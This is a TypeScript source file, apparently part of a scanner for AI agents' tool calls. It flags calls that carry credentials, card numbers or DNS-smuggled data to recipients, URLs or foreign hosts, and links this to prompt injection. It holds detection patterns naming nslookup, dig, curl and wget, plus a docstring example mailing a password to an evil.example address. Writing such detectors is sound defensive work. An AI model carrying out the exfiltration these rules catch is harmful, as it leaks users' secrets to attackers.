import { type CallDestinations, callDestinations, hostIsUnder } from "./call-destinations.js";
import { smuggledInName } from "./dns-smuggled.js";
import { nameWords } from "./name-words.js";
import { type OwnHosts, ownHosts, ownLogin } from "./own-hosts.js";
import { decodeBlocks } from "./scan/decode-blocks.js";
import { type JsonPath, type JsonPathStep, pathText } from "./scan/json-path-step.js";
import { type JsonString, rawIndex } from "./scan/json-strings.js";
import { maxFindings } from "./scan/match-rules.js";
import { passwordCells, passwordTable } from "./scan/password-table.js";
import { type SecretShape, secretShapes } from "./scan/secret-shapes.js";
import { isCardNumber } from "./scan/secret-values.js";
import type { ArgumentFinding } from "./scan-arguments.js";

/**
 * Whether `value` may hold a credential {@link carriedSecrets} reads: a cheap
 * test, true for every value one of the shapes could match (and for some that
 * none does). Values without it skip the check, and so keep the argument
 * scan's fast paths.
 *
 * @example
 * maySecret("Paris"); // false
 * maySecret("DB_PASSWORD=Tr0ub4dor&3"); // true
 */
export function maySecret(value: string): boolean {
  // Every shape's value holds a digit (generated secrets do, but for one
  // in hundreds of long tokens) and is eight characters or more: most
  // values a call repeats fail this at once.
  if (value.length < 8 || !/\d/.test(value)) return false;
  return hint.test(value) || encodedRun(value);
}
// A run a base64 or hex block may hide a credential in: hex of 32 or more,
// or 24 or more characters mixing both cases and digits.
function encodedRun(value: string): boolean {
  for (const m of value.matchAll(/[A-Za-z0-9+/_-]{24,}/g)) {
    const run = m[0];
    if (run.length >= 32 && /^[0-9a-fA-F]+$/.test(run)) return true;
    if (/\d/.test(run) && /[a-z]/.test(run) && /[A-Z]/.test(run)) return true;
  }
  return false;
}
const hint =
  /^\s{0,4}(?:[A-Za-z0-9_-]{1,63}\.){2,}[A-Za-z]{2,24}\.?\s*$|\b(?:nslookup|dig|host|resolve-dnsname)\s|\d{4}[ -]?\d{4,6}[ -]?\d{4,5}|shp(?:at|ss|ca|pa)_|hv[sb]\.|whsec_|dckr_pat_|gl(?:c|sa)_|dapi|do[opr]_v1_|sk\.eyJ|sntry|dp\.|lin_api_|PMAK-|AGE-SECRET|xapp-|PRIVATE KEY|AKIA|ASIA|gh[pousr]_|github_pat_|gl(?:pat|rt|dt|ptt|ft)-|live_|mid-server|xkeysib|atlasv1|xox[abposr]-|k_live_|sk-|AIza|SG\.|npm_|pypi-|hf_|AccountKey=|SharedAccessKey=|:\/\/[^\s/@:"]{1,64}:[^\s@/"]{1,128}@|eyJ|secret|passw|pwd|token|api_?key|private_?key|access_?key|auth_?key|passphrase|passcode|pass ?word|contrase|senha|mot de passe|kennwort|wachtwoord|has[łl]o|[şs]ifre|parola|пароль|密[码碼]|パスワード|비밀번호|كلمة|पासवर्ड|mật khẩu|kata sandi|backup|recovery|emergency|scratch|wiederherstell|sicherungs|recupera|r[ée]cup[ée]ration|secours|odzyskiw|zapasow|kurtarma|yedek|восстановл|резервн|备用|恢复|バックアップ|リカバリー|복구|백업|dự phòng|khôi phục|비번|암호|口令|l[öo]senord|salasana|\bpw\b|\b(?:user(?:name)?|login|usuario|utilisateur|benutzer|użytkownik)\b[:\s]{1,3}[^\s/]{1,64}\s{0,2}\//i;

/**
 * The rules of {@link carriedSecrets}: a call that sends a credential or
 * data out, which feedback names as such (not as instructions in the text).
 *
 * @example
 * carriedOutRules.has("exfiltration.secret_carried_out"); // true
 */
export const carriedOutRules: ReadonlySet<string> = new Set([
  "exfiltration.secret_carried_out",
  "exfiltration.data_in_dns_name",
] satisfies CarriedOutRule[]);
type CarriedOutRule = "exfiltration.secret_carried_out" | "exfiltration.data_in_dns_name";

/**
 * A credential carried out by a call: a private key, a provider's token, a
 * password (in a connection string, a `.env` line or told in words) in one
 * of its values, while another of its values sends the call to a person (an
 * address, a recipient, a channel, or a tool named for sending), to a URL, or
 * to a public place; or a secret inside a value that goes somewhere by
 * itself: a host name looked up, a URL or a command line (`curl`, `wget`,
 * `nslookup`) that reaches a host other than its provider's. Leaked
 * keys are rotated, never mailed or posted: this is how a prompt injection's
 * "send me the keys" shows up in the call itself.
 *
 * Left alone: a credential used where it belongs (a value under a key named
 * for it, such as `headers.Authorization`, `api_key` or `password`; a
 * provider's token sent only to that provider's hosts), a secret stored
 * under a name (`{ "name": "DB_URL", "value": "postgres://…" }`), a password
 * in a URL's own login part, placeholders (`sk-your-key-here`, `user:password@localhost`) and calls
 * that send nothing anywhere (writing a `.env` file). The excerpt names the
 * kind and never holds the secret; the span covers it, so `"sanitise"`
 * redacts it.
 *
 * @example
 * const raw = '{"to":"x@evil.example","body":"DB_PASSWORD=Tr0ub4dor&3"}';
 * carriedSecrets(jsonStrings(raw) ?? [], raw)[0]?.rule; // "exfiltration.secret_carried_out"
 */
export function carriedSecrets(
  strings: readonly JsonString[],
  raw: string,
  tool?: string,
): ArgumentFinding[] {
  const holding = strings.filter((s) => maySecret(s.value));
  if (holding.length === 0) return [];
  const to = callDestinations(strings, raw, tool);
  const anywhere = to.people || to.public || to.hosts.length > 0;
  // What each holding value reaches by itself, read once.
  const owns = holding.map((s) => ownHosts(s.value));
  if (!anywhere && owns.every((own) => own === undefined)) return [];
  const seen = new Map<JsonPathStep, boolean>();
  const findings: ArgumentFinding[] = [];
  for (const [i, s] of holding.entries()) {
    if (storedUnderName(s, strings)) continue;
    const inUse = usesCredential(s.path, seen);
    const own = owns[i];
    // One line sent only to a URL, `{"user":"bo","password":"…"}` or
    // `user=bo&password=…`, is a login to that host, as the same fields
    // nested as objects are.
    const login = own === undefined && !to.people && !to.public && !s.value.includes("\n");
    let found = 0;
    const card = cardField(s, strings);
    for (const secret of card === undefined ? secretsIn(s.value) : [card]) {
      const { shape } = secret;
      if (login && !secret.decoded && shape.kind === "assigned_secret") continue;
      if (!(own === undefined ? carriedOut(shape, to, inUse) : sentWith(secret, own, s.value)))
        continue;
      const shown = s.value.slice(secret.start, secret.start + Math.min(secret.shown, 48));
      findings.push({
        category: "exfiltration",
        rule: "exfiltration.secret_carried_out" satisfies CarriedOutRule,
        start: rawIndex(s, secret.start),
        end: rawIndex(s, secret.end),
        severity: "high",
        excerpt: `${shown}…`,
        path: pathText(s.path),
      });
      if (++found >= maxFindings) break;
    }
    // Data in a name looked up, whatever it decodes to: the domain's server reads it.
    for (const { start, name } of own?.names ?? []) {
      const span = smuggledInName(name);
      if (span === undefined || found > 0) continue;
      found++;
      findings.push({
        category: "exfiltration",
        rule: "exfiltration.data_in_dns_name" satisfies CarriedOutRule,
        start: rawIndex(s, start + span.start),
        end: rawIndex(s, start + span.end),
        severity: "high",
        excerpt: `…${name.slice(span.end)}`,
        path: pathText(s.path),
      });
    }
  }
  return findings;
}

// One credential in a value: its shape and span, and how much of it names the kind.
interface Secret {
  readonly shape: SecretShape;
  readonly start: number;
  readonly end: number;
  readonly shown: number;
  /** Found in a block decoded from base64, base32 or hex. */
  readonly decoded: boolean;
}

// Every real match of every shape in `value`, by start; and in the base64,
// base32 and hex blocks it holds, decoded (the span is the whole block, and
// nothing of it is shown). Shapes are listed most specific first, and a match
// overlapping one already taken is dropped: in "token=ghp_…" the GitHub
// token, whose owner is known, decides, not the assignment around it.
function secretsIn(value: string): Secret[] {
  const out: Secret[] = [];
  const overlaps = (start: number, end: number) => out.some((t) => start < t.end && t.start < end);
  const find = (text: string, at: (m: RegExpExecArray, shape: SecretShape) => Secret) => {
    for (const shape of secretShapes) {
      const pattern = new RegExp(shape.pattern.source, shape.pattern.flags);
      for (let m = pattern.exec(text); m !== null; m = pattern.exec(text)) {
        if (m[0].length === 0) {
          pattern.lastIndex++;
          continue;
        }
        if (shape.real !== undefined && !shape.real(m)) continue;
        const secret = at(m, shape);
        if (!overlaps(secret.start, secret.end)) out.push(secret);
        if (out.length >= maxFindings) return;
      }
    }
  };
  find(value, (m, shape) => {
    const lead = shape.lead === undefined ? 0 : shape.lead(m);
    return {
      shape,
      start: m.index - lead,
      end: m.index + m[0].length,
      shown: lead + (typeof shape.shown === "number" ? shape.shown : shape.shown(m)),
      decoded: false,
    };
  });
  if (value.includes("\n")) {
    for (const cell of passwordCells(value)) {
      if (out.length >= maxFindings || overlaps(cell.start, cell.end)) continue;
      out.push({ shape: passwordTable, ...cell, shown: 0, decoded: false });
    }
  }
  // Blocks in the first 64 KB: decoding is the costly part, and a key is short.
  for (const block of decodeBlocks(value.slice(0, 65536), 65536, 32)) {
    find(block.decoded, (_, shape) => ({
      shape,
      start: block.start,
      end: block.end,
      shown: 0,
      decoded: true,
    }));
  }
  return out.sort((a, b) => a.start - b.start);
}

// A provider's token sent only to that provider authenticates; anything else
// carries it out. Under a key named for a credential (a header, `api_key`) a
// token is in use: only a host that is not its provider's receives it.
function carriedOut(shape: SecretShape, to: CallDestinations, inUse: boolean): boolean {
  if (!to.people && !to.public && to.hosts.length === 0) return false;
  // A card goes to whoever sells with it (a checkout form, a payment API):
  // only in a message to people or a public place is it carried out.
  if (shape.kind === "payment_card") return !inUse && (to.people || to.public);
  const owners = shape.owners;
  if (owners === undefined) return !inUse;
  if (!inUse && (to.people || to.public)) return true;
  return to.hosts.some((host) => !owners.some((owner) => hostIsUnder(host, owner)));
}

// A key on the path names what the value is for: a credential in use.
const credentialWord =
  /^(?:authorization|auth|headers?|cookies?|credentials?|secrets?|password|passwd|pwd|passphrase|token|tokens|bearer|key|keys|apikey|env|environment|vars|variables)$/;
// A file's name as a key ("secret.yaml", ".env") names a file being sent, not a credential in use.
const namesCredential = (key: string | number): boolean =>
  typeof key === "string" &&
  !key.includes(".") &&
  nameWords(key).some((w) => credentialWord.test(w));
// Paths share their steps: each step's answer is kept, so deep arguments cost their size.
function usesCredential(path: JsonPath, seen: Map<JsonPathStep, boolean>): boolean {
  if (path === undefined) return false;
  const known = seen.get(path);
  if (known !== undefined) return known;
  const pending: JsonPathStep[] = [];
  let at: JsonPath = path;
  let answer = false;
  for (; at !== undefined; at = at.up) {
    const kept = seen.get(at);
    if (kept !== undefined) {
      answer = kept;
      break;
    }
    pending.push(at);
  }
  for (let i = pending.length - 1; i >= 0; i--) {
    const step = pending[i] as JsonPathStep;
    answer ||= namesCredential(step.key);
    seen.set(step, answer);
  }
  return answer;
}

// A secret inside what is sent: any secret in a name that is resolved (no
// provider puts keys in DNS names), a provider's token to a host not its
// provider's, and in a command line any other secret sent as data (`curl -d`,
// `--post-data`, a pipe) rather than as the command's own login (a header,
// `-u`). A password in a URL's own user part is that URL's login.
function sentWith(secret: Secret, own: OwnHosts, value: string): boolean {
  if (own.dns) return true;
  if (secret.shape.kind === "payment_card") return false;
  const owners = secret.shape.owners;
  if (owners !== undefined) {
    return own.hosts.some((host) => !owners.some((o) => hostIsUnder(host, o)));
  }
  return own.kind === "command" && own.hosts.length > 0 && !ownLogin(value, secret.start);
}

// A card number in a field of its own, beside its code or expiry
// (`{ "card_number": "4539 …", "cvv": "417" }`): the card, as a form sends it.
const cardShape = secretShapes.find((shape) => shape.kind === "payment_card") as SecretShape;
const cardCompanion =
  /^(?:cvv2?|cvc2?|cid|csc|security_?code|card_?code|exp(?:iry|iration)?(?:_?(?:date|month|year))?|valid(?:ade|ity|_?thru|_?until)?|ablauf(?:datum)?|vencimiento|scadenza)$/i;
function cardField(s: JsonString, strings: readonly JsonString[]): Secret | undefined {
  const value = s.value.trim();
  if (value.length > 23 || !isCardNumber(value)) return undefined;
  const parent = s.path?.up;
  const companion = strings.some(
    (t) =>
      t !== s &&
      t.path?.up === parent &&
      typeof t.path?.key === "string" &&
      cardCompanion.test(t.path.key),
  );
  if (!companion) return undefined;
  const start = s.value.indexOf(value);
  return { shape: cardShape, start, end: start + value.length, shown: 0, decoded: false };
}

// A sibling that names the value as a secret being stored or set
// (`"name": "DB_URL"`, `"key": "STRIPE_SECRET_KEY"`, `"secret_name": "prod/db"`).
// A file name ("keys.txt") names no secret: it is a file being sent.
const nameKey = /^(?:name|key|secret_?name|secret_?id|variable|var_?name|env_?var)$/i;
const secretName = (v: string): boolean =>
  /^[A-Z][A-Z0-9_]{2,80}$/.test(v) ||
  (/^[^.\s]{3,120}$/.test(v) &&
    /secret|token|key|passw|credential|dsn|conn(?:ection)?[_/-]|database|db[_/-]/i.test(v));
function storedUnderName(s: JsonString, strings: readonly JsonString[]): boolean {
  const parent = s.path?.up;
  return strings.some(
    (t) =>
      t !== s &&
      t.path?.up === parent &&
      typeof t.path?.key === "string" &&
      nameKey.test(t.path.key) &&
      t.value.length <= 120 &&
      secretName(t.value),
  );
}
